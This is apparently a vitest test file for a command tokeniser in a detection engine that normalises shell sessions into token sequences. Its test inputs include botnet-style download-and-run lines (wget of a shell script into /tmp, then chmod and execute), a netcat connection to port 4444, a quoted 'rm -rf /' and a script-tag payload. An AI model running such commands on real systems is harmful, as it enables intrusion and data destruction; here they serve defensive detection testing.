import * as fc from "fast-check";
import {describe, expect, it} from "vitest";
import {defaults, tokeniseCommand} from "../../../../src/engine/detect/sequences/tokenise-command.js";

describe("tokeniseCommand", () => {
  it.each([
    ["uname -a", ["uname -"]],
    ["cd /tmp; wget http://198.51.100.7/x.sh -O y", ["cd <path>", "wget <url> - <word>"]],
    ["cat /proc/cpuinfo | grep name | wc -l", ["cat <path>", "grep <word>", "wc -"]],
    ["chmod 777 .t && ./.t telnet", ["chmod <number> <path>", "<path> <word>"]],
    ["/bin/busybox wget http://a/b", ["busybox wget <url>"]],
    ["/bin/busybox ECCHI", ["busybox <word>"]],
    ["/usr/bin/nc 203.0.113.9 4444", ["nc <address> <number>"]],
    ["PATH=/tmp:$PATH exec sh", ["exec sh"]],
    ["X=1", ["<assignment>"]],
    ["echo $(id) > /tmp/a", ["echo <expression> > <path>"]],
    ["a&b||c\nd", ["a", "b", "c", "d"]],
    ["   ", []]
  ])("reads %s as %j", (line, tokens) => {
    expect(tokeniseCommand(line)).toEqual(tokens);
  });

  it("lets quotes hide what would divide commands", () => {
    expect(tokeniseCommand(`echo "a; rm -rf /" 'b | c' d\\;e`)).toEqual(["echo <path> <word>"]);
  });

  it("gives the same tokens for another download host and another file name", () => {
    const bot = (host: string, name: string) => `cd /tmp; wget http://${host}/${name}; sh ${name}`;
    expect(tokeniseCommand(bot("a.example", "x1"))).toEqual(tokeniseCommand(bot("203.0.113.4", "zz")));
  });

  it("takes a verb that no program has for another one", () => {
    expect(tokeniseCommand("<script>alert(1)</script>")[0]).not.toContain("script");
    expect(tokeniseCommand("ünïcode x")).toEqual(["<other> <word>"]);
  });

  it("stays within its bounds, and lets through nothing but verbs and kinds, whatever was typed", () => {
    fc.assert(
      fc.property(fc.string({maxLength: 300, unit: "binary"}), line => {
        const tokens = tokeniseCommand(line);
        expect(tokens.length).toBeLessThanOrEqual(defaults.mostCommands);
        for (const token of tokens)
          for (const word of token.split(" "))
            expect(word).toMatch(
              /^(?:[A-Za-z0-9_.+[\]-]{1,24}|<|>|<(?:assignment|other|url|expression|address|number|data|path|word)>)$/
            );
      })
    );
  });

  it("reads a line of any length in bounded time", () => {
    expect(tokeniseCommand(";".repeat(1_000_000))).toEqual([]);
    expect(tokeniseCommand("a;".repeat(100_000))).toHaveLength(defaults.mostCommands);
  });
});
